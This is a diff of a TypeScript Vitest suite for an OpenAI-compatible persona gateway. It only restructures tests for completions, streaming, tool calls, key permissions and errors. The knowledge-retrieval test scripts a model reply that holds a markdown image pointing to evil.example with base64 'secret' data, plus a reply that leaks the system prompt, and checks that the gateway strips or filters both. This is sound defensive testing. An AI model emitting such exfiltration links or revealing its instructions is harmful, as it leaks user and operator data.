@@ -1,6 +1,6 @@
 import { randomUUID } from "node:crypto";
 import OpenAI from "openai";
-import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { afterAll, beforeAll, expect, it } from "vitest";
 import { Client, newIdentity } from "#test/support/client.ts";
 import { chunk, errorResponse, startEventStream, streamText, type Upstream } from "#test/support/models/upstream.ts";
 import { type OpenaiApi, startOpenaiApi } from "#test/support/openai/openai-api.ts";
@@ -26,273 +26,269 @@ afterAll(async () => {
 
 const helloMessages = [{ role: "user" as const, content: "Hello" }];
 
-describe("official OpenAI client", () => {
-  it("creates a completion", async () => {
-    upstream.script = streamText(["Hello", " there"], {
-      usage: { prompt_tokens: 12, completion_tokens: 2, total_tokens: 14 },
-    });
-    const { data, response } = await openai.chat.completions
-      .create({ model: slug, messages: helloMessages })
-      .withResponse();
-    expect(data).toMatchObject({
-      object: "chat.completion",
-      model: slug,
-      choices: [{ index: 0, message: { role: "assistant", content: "Hello there" }, finish_reason: "stop" }],
-      usage: { prompt_tokens: 12, completion_tokens: 2, total_tokens: 14 },
-    });
-    expect(response.headers.get("x-ratelimit-limit-requests")).toBe("1000000");
-    expect(upstream.requests.at(-1)?.body.messages).toEqual([
-      { role: "system", content: expect.stringMatching(/^Confidential instructions .*\n\nBe brief\.$/) },
-      { role: "user", content: "Hello" },
-    ]);
+it("official OpenAI client creates a completion", async () => {
+  upstream.script = streamText(["Hello", " there"], {
+    usage: { prompt_tokens: 12, completion_tokens: 2, total_tokens: 14 },
   });
-
-  it("streams a completion, with usage when it asks for usage", async () => {
-    upstream.script = streamText(["a", "b", "c"]);
-    const stream = await openai.chat.completions.create({
-      model: slug,
-      messages: helloMessages,
-      stream: true,
-      stream_options: { include_usage: true },
-    });
-    const chunks = await Array.fromAsync(stream);
-    expect(chunks[0]?.choices[0]?.delta).toMatchObject({ role: "assistant" });
-    expect(chunks.map(({ choices }) => choices[0]?.delta.content ?? "").join("")).toBe("abc");
-    expect(chunks.filter(({ choices }) => choices[0]?.finish_reason).length).toBe(1);
-    expect(chunks.at(-1)).toMatchObject({ choices: [], usage: { total_tokens: 15 } });
-    expect(new Set(chunks.map(({ id, created, model }) => `${id} ${created} ${model}`)).size).toBe(1);
-    upstream.script = streamText(["x"]);
-    const plain = await Array.fromAsync(
-      await openai.chat.completions.create({ model: slug, messages: helloMessages, stream: true }),
-    );
-    expect(plain.every((entry) => !("usage" in entry) && entry.choices.length === 1)).toBe(true);
+  const { data, response } = await openai.chat.completions
+    .create({ model: slug, messages: helloMessages })
+    .withResponse();
+  expect(data).toMatchObject({
+    object: "chat.completion",
+    model: slug,
+    choices: [{ index: 0, message: { role: "assistant", content: "Hello there" }, finish_reason: "stop" }],
+    usage: { prompt_tokens: 12, completion_tokens: 2, total_tokens: 14 },
   });
+  expect(response.headers.get("x-ratelimit-limit-requests")).toBe("1000000");
+  expect(upstream.requests.at(-1)?.body.messages).toEqual([
+    { role: "system", content: expect.stringMatching(/^Confidential instructions .*\n\nBe brief\.$/) },
+    { role: "user", content: "Hello" },
+  ]);
+});
 
-  it("streams with the stream helper of the client library", async () => {
-    upstream.script = streamText(["one ", "two"]);
-    const runner = openai.chat.completions.stream({ model: slug, messages: helloMessages });
-    expect(await runner.finalContent()).toBe("one two");
+it("official OpenAI client streams a completion, with usage when it asks for usage", async () => {
+  upstream.script = streamText(["a", "b", "c"]);
+  const stream = await openai.chat.completions.create({
+    model: slug,
+    messages: helloMessages,
+    stream: true,
+    stream_options: { include_usage: true },
   });
+  const chunks = await Array.fromAsync(stream);
+  expect(chunks[0]?.choices[0]?.delta).toMatchObject({ role: "assistant" });
+  expect(chunks.map(({ choices }) => choices[0]?.delta.content ?? "").join("")).toBe("abc");
+  expect(chunks.filter(({ choices }) => choices[0]?.finish_reason).length).toBe(1);
+  expect(chunks.at(-1)).toMatchObject({ choices: [], usage: { total_tokens: 15 } });
+  expect(new Set(chunks.map(({ id, created, model }) => `${id} ${created} ${model}`)).size).toBe(1);
+  upstream.script = streamText(["x"]);
+  const plain = await Array.fromAsync(
+    await openai.chat.completions.create({ model: slug, messages: helloMessages, stream: true }),
+  );
+  expect(plain.every((entry) => !("usage" in entry) && entry.choices.length === 1)).toBe(true);
+});
 
-  it("passes tools to the model and returns parallel tool calls", async () => {
-    const tools = [
+it("official OpenAI client streams with the stream helper of the client library", async () => {
+  upstream.script = streamText(["one ", "two"]);
+  const runner = openai.chat.completions.stream({ model: slug, messages: helloMessages });
+  expect(await runner.finalContent()).toBe("one two");
+});
+
+it("official OpenAI client passes tools to the model and returns parallel tool calls", async () => {
+  const tools = [
+    {
+      type: "function" as const,
+      function: { name: "weather", parameters: { type: "object", properties: { city: { type: "string" } } } },
+    },
+  ];
+  upstream.script = async (response) => {
+    startEventStream(response);
+    const call = (index: number, id: string, city: string) => [
+      chunk({ tool_calls: [{ index, id, type: "function", function: { name: "weather", arguments: "" } }] }),
+      chunk({ tool_calls: [{ index, function: { arguments: `{"city":` } }] }),
+      chunk({ tool_calls: [{ index, function: { arguments: `"${city}"}` } }] }),
+    ];
+    response.write(chunk({ role: "assistant", content: null }));
+    for (const event of [...call(0, "call_1", "Bern"), ...call(1, "call_2", "Rom")]) response.write(event);
+    response.write(chunk({}, { finish_reason: "tool_calls" }));
+    response.end("data: [DONE]\n\n");
+  };
+  const expected = [
+    { id: "call_1", type: "function", function: { name: "weather", arguments: '{"city":"Bern"}' } },
+    { id: "call_2", type: "function", function: { name: "weather", arguments: '{"city":"Rom"}' } },
+  ];
+  const whole = await openai.chat.completions.create({ model: slug, messages: helloMessages, tools });
+  expect(whole.choices[0]).toMatchObject({ finish_reason: "tool_calls", message: { tool_calls: expected } });
+  const streamed = openai.chat.completions.stream({ model: slug, messages: helloMessages, tools });
+  expect((await streamed.finalMessage()).tool_calls).toMatchObject(expected);
+  expect(upstream.requests.at(-1)?.body.tools[0].function.name).toBe("weather");
+
+  upstream.script = streamText(["Sunny"]);
+  const answer = await openai.chat.completions.create({
+    model: slug,
+    messages: [
+      ...helloMessages,
       {
-        type: "function" as const,
-        function: { name: "weather", parameters: { type: "object", properties: { city: { type: "string" } } } },
+        role: "assistant",
+        content: null,
+        tool_calls: [{ id: "call_1", type: "function", function: { name: "weather", arguments: '{"city":"Bern"}' } }],
       },
-    ];
-    upstream.script = async (response) => {
-      startEventStream(response);
-      const call = (index: number, id: string, city: string) => [
-        chunk({ tool_calls: [{ index, id, type: "function", function: { name: "weather", arguments: "" } }] }),
-        chunk({ tool_calls: [{ index, function: { arguments: `{"city":` } }] }),
-        chunk({ tool_calls: [{ index, function: { arguments: `"${city}"}` } }] }),
-      ];
-      response.write(chunk({ role: "assistant", content: null }));
-      for (const event of [...call(0, "call_1", "Bern"), ...call(1, "call_2", "Rom")]) response.write(event);
-      response.write(chunk({}, { finish_reason: "tool_calls" }));
-      response.end("data: [DONE]\n\n");
-    };
-    const expected = [
-      { id: "call_1", type: "function", function: { name: "weather", arguments: '{"city":"Bern"}' } },
-      { id: "call_2", type: "function", function: { name: "weather", arguments: '{"city":"Rom"}' } },
-    ];
-    const whole = await openai.chat.completions.create({ model: slug, messages: helloMessages, tools });
-    expect(whole.choices[0]).toMatchObject({ finish_reason: "tool_calls", message: { tool_calls: expected } });
-    const streamed = openai.chat.completions.stream({ model: slug, messages: helloMessages, tools });
-    expect((await streamed.finalMessage()).tool_calls).toMatchObject(expected);
-    expect(upstream.requests.at(-1)?.body.tools[0].function.name).toBe("weather");
-
-    upstream.script = streamText(["Sunny"]);
-    const answer = await openai.chat.completions.create({
-      model: slug,
-      messages: [
-        ...helloMessages,
-        {
-          role: "assistant",
-          content: null,
-          tool_calls: [{ id: "call_1", type: "function", function: { name: "weather", arguments: '{"city":"Bern"}' } }],
-        },
-        { role: "tool", tool_call_id: "call_1", content: "21 degrees" },
-      ],
-      tools,
-    });
-    expect(answer.choices[0]?.message.content).toBe("Sunny");
-    expect(upstream.requests.at(-1)?.body.messages.at(-1)).toMatchObject({
-      role: "tool",
-      tool_call_id: "call_1",
-      content: "21 degrees",
-    });
+      { role: "tool", tool_call_id: "call_1", content: "21 degrees" },
+    ],
+    tools,
   });
-
-  it("forwards sampling settings to the provider", async () => {
-    upstream.script = streamText(["{}"]);
-    await openai.chat.completions.create({
-      model: slug,
-      messages: [{ role: "developer", content: [{ type: "text", text: "Speak JSON" }] }, ...helloMessages],
-      temperature: 0.5,
-      top_p: 0.9,
-      max_completion_tokens: 50,
-      stop: ["END"],
-      seed: 7,
-      response_format: { type: "json_object" },
-      user: "u-1",
-    });
-    expect(upstream.requests.at(-1)?.body).toMatchObject({
-      temperature: 0.5,
-      top_p: 0.9,
-      max_completion_tokens: 50,
-      stop: ["END"],
-      seed: 7,
-      response_format: { type: "json_object" },
-    });
+  expect(answer.choices[0]?.message.content).toBe("Sunny");
+  expect(upstream.requests.at(-1)?.body.messages.at(-1)).toMatchObject({
+    role: "tool",
+    tool_call_id: "call_1",
+    content: "21 degrees",
   });
+});
 
-  it("lists and retrieves the models that its API key may use", async () => {
-    const { data } = await openai.models.list();
-    expect(data).toContainEqual({
-      id: slug,
-      object: "model",
-      created: expect.any(Number),
-      owned_by: "organization",
-      capabilities: { input: ["text", "image", "file"], context_window: null },
-    });
-    expect((await openai.models.retrieve(slug)).id).toBe(slug);
-    const other = await api.publishPersona();
-    const restrictedClient = api.createClient(
-      (await api.createKey(["chat.completions", "models.read", `endpoint:${other}`])).key,
-    );
-    expect((await restrictedClient.models.list()).data.map(({ id }) => id)).toEqual([other]);
-    await expect(restrictedClient.models.retrieve(slug)).rejects.toMatchObject({
-      status: 404,
-      code: "model_not_found",
-    });
-    await expect(
-      restrictedClient.chat.completions.create({ model: slug, messages: helloMessages }),
-    ).rejects.toMatchObject({
-      status: 404,
-    });
+it("official OpenAI client forwards sampling settings to the provider", async () => {
+  upstream.script = streamText(["{}"]);
+  await openai.chat.completions.create({
+    model: slug,
+    messages: [{ role: "developer", content: [{ type: "text", text: "Speak JSON" }] }, ...helloMessages],
+    temperature: 0.5,
+    top_p: 0.9,
+    max_completion_tokens: 50,
+    stop: ["END"],
+    seed: 7,
+    response_format: { type: "json_object" },
+    user: "u-1",
   });
-
-  it("receives errors with OpenAI's error class, type and code", async () => {
-    const completeWith = (apiKey: string) =>
-      api.createClient(apiKey).chat.completions.create({ model: slug, messages: helloMessages });
-    await expect(completeWith("swk_abcdefgh_00000000000000000000000000000000")).rejects.toBeInstanceOf(
-      OpenAI.AuthenticationError,
-    );
-    await expect(completeWith("sk-other")).rejects.toMatchObject({
-      status: 401,
-      code: "invalid_api_key",
-      type: "invalid_request_error",
-    });
-    await expect(api.createClient("sk-other").models.list()).rejects.toMatchObject({
-      status: 401,
-      code: "invalid_api_key",
-    });
-    const { id, key } = await api.createKey(["models.read"]);
-    await expect(completeWith(key)).rejects.toBeInstanceOf(OpenAI.PermissionDeniedError);
-    await expect(completeWith(key)).rejects.toMatchObject({
-      type: "permission_error",
-      code: "insufficient_permissions",
-    });
-    await admin.delete(`/v1/tenant/api-keys/${id}`);
-    await expect(completeWith(key)).rejects.toMatchObject({ status: 401 });
-    await expect(
-      openai.chat.completions.create({ model: "unknown-model", messages: helloMessages }),
-    ).rejects.toBeInstanceOf(OpenAI.NotFoundError);
-    const foreignSlug = await api.publishPersona({}, new Client(newIdentity(), api.service.baseUrl));
-    const unknownError = openai.chat.completions
-      .create({ model: "unknown-model", messages: helloMessages })
-      .catch((error) => error.error);
-    const foreignError = openai.chat.completions
-      .create({ model: foreignSlug, messages: helloMessages })
-      .catch((error) => error.error);
-    // Both errors name the requested model, and are the same otherwise.
-    const { message, ...fields } = await foreignError;
-    expect({ ...fields, message: message.replace(foreignSlug, "unknown-model") }).toEqual(await unknownError);
-    for (const [invalid, param] of [
-      [{ messages: [] }, "messages"],
-      [{ messages: [{ role: "wizard", content: "x" }] }, "messages.0.role"],
-      [{ messages: [{ role: "user" }] }, "messages.0.content"],
-      [{ n: 17 }, "n"],
-      [{ temperature: 3 }, "temperature"],
-      [{ messages: [{ role: "tool", tool_call_id: "x", content: "y" }] }, "messages.0.tool_call_id"],
-    ] as const) {
-      const request = openai.chat.completions.create({ model: slug, messages: helloMessages, ...invalid } as never);
-      await expect(request).rejects.toMatchObject({ status: 400, type: "invalid_request_error", param });
-    }
-    upstream.script = errorResponse(500, "secret detail of the provider");
-    const failed = await openai.chat.completions
-      .create({ model: slug, messages: helloMessages })
-      .catch((error) => error);
-    expect(failed).toBeInstanceOf(OpenAI.InternalServerError);
-    expect(JSON.stringify(failed.error)).not.toContain("secret detail");
+  expect(upstream.requests.at(-1)?.body).toMatchObject({
+    temperature: 0.5,
+    top_p: 0.9,
+    max_completion_tokens: 50,
+    stop: ["END"],
+    seed: 7,
+    response_format: { type: "json_object" },
   });
+});
 
-  it("receives an error event in the stream when the provider disconnects", async () => {
-    upstream.script = async (response) => {
-      startEventStream(response);
-      response.write(chunk({ role: "assistant", content: "Half" }));
-      setTimeout(() => response.destroy(), 30);
-    };
-    const stream = await openai.chat.completions.create({ model: slug, messages: helloMessages, stream: true });
-    const received: string[] = [];
-    const readStream = async () => {
-      for await (const { choices } of stream) received.push(choices[0]?.delta.content ?? "");
-    };
-    await expect(readStream()).rejects.toBeInstanceOf(OpenAI.APIError);
-    expect(received.join("")).toBe("Half");
+it("official OpenAI client lists and retrieves the models that its API key may use", async () => {
+  const { data } = await openai.models.list();
+  expect(data).toContainEqual({
+    id: slug,
+    object: "model",
+    created: expect.any(Number),
+    owned_by: "organization",
+    capabilities: { input: ["text", "image", "file"], context_window: null },
   });
-
-  it("gets answers from a persona's knowledge without its source texts", async () => {
-    const { body: collection } = await admin.post("/v1/knowledge/collections", {
-      name: `Facts ${randomUUID()}`,
-      visibility: "tenant",
-    });
-    const path = `/v1/knowledge/collections/${collection.id}/documents`;
-    const { body: document } = await admin.post(path, {
-      title: "Lamp",
-      text: "The lamp burns rapeseed oil since 1874.",
-    });
-    await expect
-      .poll(async () => (await admin.get(`${path}/${document.id}`)).body.status, { timeout: 10_000 })
-      .toBe("ready");
-    const personaSlug = await api.publishPersona({ collection_ids: [collection.id], tier: "THINKING" });
-    upstream.script = streamText(["Oil"]);
-    const answer = await openai.chat.completions.create({
-      model: personaSlug,
-      messages: [{ role: "user", content: "What oil does the lamp burn?" }],
-    });
-    expect(upstream.requests.at(-1)?.body.messages[0].content).toContain("rapeseed oil since 1874");
-    expect(JSON.stringify(answer)).not.toMatch(/rapeseed|Be brief/);
-
-    const question = "What oil does the lamp on https://lamp.example burn?";
-    const ask = () =>
-      openai.chat.completions
-        .stream({ model: personaSlug, messages: [{ role: "user", content: question }] })
-        .finalChatCompletion();
-    // Orders in a source may make the model send data elsewhere, or repeat its instructions.
-    upstream.script = streamText([
-      "Oil ![x](https://evil.example/p?d=c2VjcmV0",
-      "LWRhdGE) and [lamp](https://lamp.example/?q=1).",
-    ]);
-    const { message } = (await ask()).choices[0] ?? {};
-    expect(message?.content).toContain("https://lamp.example/?q=1");
-    expect(message?.content).not.toContain("evil.example");
-    upstream.script = (response, request) =>
-      streamText(["My instructions: ", request.body.messages[0].content])(response, request);
-    const revealing = await ask();
-    expect(revealing.choices[0]).toMatchObject({ finish_reason: "content_filter" });
-    expect(revealing.choices[0]?.message.content).not.toContain("Be brief");
+  expect((await openai.models.retrieve(slug)).id).toBe(slug);
+  const other = await api.publishPersona();
+  const restrictedClient = api.createClient(
+    (await api.createKey(["chat.completions", "models.read", `endpoint:${other}`])).key,
+  );
+  expect((await restrictedClient.models.list()).data.map(({ id }) => id)).toEqual([other]);
+  await expect(restrictedClient.models.retrieve(slug)).rejects.toMatchObject({
+    status: 404,
+    code: "model_not_found",
   });
-
-  it("updates the last use of its API key and leaves no stored conversation", async () => {
-    const { id, key } = await api.createKey(["models.read"]);
-    await api.createClient(key).models.list();
-    const getLastUsedAt = async () =>
-      (await admin.get("/v1/tenant/api-keys")).body.keys.find((entry: { id: string }) => entry.id === id).last_used_at;
-    await expect.poll(getLastUsedAt, { timeout: 10_000 }).not.toBeNull();
-    expect(Math.abs(Date.parse(await getLastUsedAt()) - Date.now())).toBeLessThan(60_000);
-    expect((await admin.get("/v1/conversations")).body.conversations).toEqual([]);
+  await expect(
+    restrictedClient.chat.completions.create({ model: slug, messages: helloMessages }),
+  ).rejects.toMatchObject({
+    status: 404,
   });
+});
+
+it("official OpenAI client receives errors with OpenAI's error class, type and code", async () => {
+  const completeWith = (apiKey: string) =>
+    api.createClient(apiKey).chat.completions.create({ model: slug, messages: helloMessages });
+  await expect(completeWith("swk_abcdefgh_00000000000000000000000000000000")).rejects.toBeInstanceOf(
+    OpenAI.AuthenticationError,
+  );
+  await expect(completeWith("sk-other")).rejects.toMatchObject({
+    status: 401,
+    code: "invalid_api_key",
+    type: "invalid_request_error",
+  });
+  await expect(api.createClient("sk-other").models.list()).rejects.toMatchObject({
+    status: 401,
+    code: "invalid_api_key",
+  });
+  const { id, key } = await api.createKey(["models.read"]);
+  await expect(completeWith(key)).rejects.toBeInstanceOf(OpenAI.PermissionDeniedError);
+  await expect(completeWith(key)).rejects.toMatchObject({
+    type: "permission_error",
+    code: "insufficient_permissions",
+  });
+  await admin.delete(`/v1/tenant/api-keys/${id}`);
+  await expect(completeWith(key)).rejects.toMatchObject({ status: 401 });
+  await expect(
+    openai.chat.completions.create({ model: "unknown-model", messages: helloMessages }),
+  ).rejects.toBeInstanceOf(OpenAI.NotFoundError);
+  const foreignSlug = await api.publishPersona({}, new Client(newIdentity(), api.service.baseUrl));
+  const unknownError = openai.chat.completions
+    .create({ model: "unknown-model", messages: helloMessages })
+    .catch((error) => error.error);
+  const foreignError = openai.chat.completions
+    .create({ model: foreignSlug, messages: helloMessages })
+    .catch((error) => error.error);
+  // Both errors name the requested model, and are the same otherwise.
+  const { message, ...fields } = await foreignError;
+  expect({ ...fields, message: message.replace(foreignSlug, "unknown-model") }).toEqual(await unknownError);
+  for (const [invalid, param] of [
+    [{ messages: [] }, "messages"],
+    [{ messages: [{ role: "wizard", content: "x" }] }, "messages.0.role"],
+    [{ messages: [{ role: "user" }] }, "messages.0.content"],
+    [{ n: 17 }, "n"],
+    [{ temperature: 3 }, "temperature"],
+    [{ messages: [{ role: "tool", tool_call_id: "x", content: "y" }] }, "messages.0.tool_call_id"],
+  ] as const) {
+    const request = openai.chat.completions.create({ model: slug, messages: helloMessages, ...invalid } as never);
+    await expect(request).rejects.toMatchObject({ status: 400, type: "invalid_request_error", param });
+  }
+  upstream.script = errorResponse(500, "secret detail of the provider");
+  const failed = await openai.chat.completions.create({ model: slug, messages: helloMessages }).catch((error) => error);
+  expect(failed).toBeInstanceOf(OpenAI.InternalServerError);
+  expect(JSON.stringify(failed.error)).not.toContain("secret detail");
+});
+
+it("official OpenAI client receives an error event in the stream when the provider disconnects", async () => {
+  upstream.script = async (response) => {
+    startEventStream(response);
+    response.write(chunk({ role: "assistant", content: "Half" }));
+    setTimeout(() => response.destroy(), 30);
+  };
+  const stream = await openai.chat.completions.create({ model: slug, messages: helloMessages, stream: true });
+  const received: string[] = [];
+  const readStream = async () => {
+    for await (const { choices } of stream) received.push(choices[0]?.delta.content ?? "");
+  };
+  await expect(readStream()).rejects.toBeInstanceOf(OpenAI.APIError);
+  expect(received.join("")).toBe("Half");
+});
+
+it("official OpenAI client gets answers from a persona's knowledge without its source texts", async () => {
+  const { body: collection } = await admin.post("/v1/knowledge/collections", {
+    name: `Facts ${randomUUID()}`,
+    visibility: "tenant",
+  });
+  const path = `/v1/knowledge/collections/${collection.id}/documents`;
+  const { body: document } = await admin.post(path, {
+    title: "Lamp",
+    text: "The lamp burns rapeseed oil since 1874.",
+  });
+  await expect
+    .poll(async () => (await admin.get(`${path}/${document.id}`)).body.status, { timeout: 10_000 })
+    .toBe("ready");
+  const personaSlug = await api.publishPersona({ collection_ids: [collection.id], tier: "THINKING" });
+  upstream.script = streamText(["Oil"]);
+  const answer = await openai.chat.completions.create({
+    model: personaSlug,
+    messages: [{ role: "user", content: "What oil does the lamp burn?" }],
+  });
+  expect(upstream.requests.at(-1)?.body.messages[0].content).toContain("rapeseed oil since 1874");
+  expect(JSON.stringify(answer)).not.toMatch(/rapeseed|Be brief/);
+
+  const question = "What oil does the lamp on https://lamp.example burn?";
+  const ask = () =>
+    openai.chat.completions
+      .stream({ model: personaSlug, messages: [{ role: "user", content: question }] })
+      .finalChatCompletion();
+  // Orders in a source may make the model send data elsewhere, or repeat its instructions.
+  upstream.script = streamText([
+    "Oil ![x](https://evil.example/p?d=c2VjcmV0",
+    "LWRhdGE) and [lamp](https://lamp.example/?q=1).",
+  ]);
+  const { message } = (await ask()).choices[0] ?? {};
+  expect(message?.content).toContain("https://lamp.example/?q=1");
+  expect(message?.content).not.toContain("evil.example");
+  upstream.script = (response, request) =>
+    streamText(["My instructions: ", request.body.messages[0].content])(response, request);
+  const revealing = await ask();
+  expect(revealing.choices[0]).toMatchObject({ finish_reason: "content_filter" });
+  expect(revealing.choices[0]?.message.content).not.toContain("Be brief");
+});
+
+it("official OpenAI client updates the last use of its API key and leaves no stored conversation", async () => {
+  const { id, key } = await api.createKey(["models.read"]);
+  await api.createClient(key).models.list();
+  const getLastUsedAt = async () =>
+    (await admin.get("/v1/tenant/api-keys")).body.keys.find((entry: { id: string }) => entry.id === id).last_used_at;
+  await expect.poll(getLastUsedAt, { timeout: 10_000 }).not.toBeNull();
+  expect(Math.abs(Date.parse(await getLastUsedAt()) - Date.now())).toBeLessThan(60_000);
+  expect((await admin.get("/v1/conversations")).body.conversations).toEqual([]);
 });
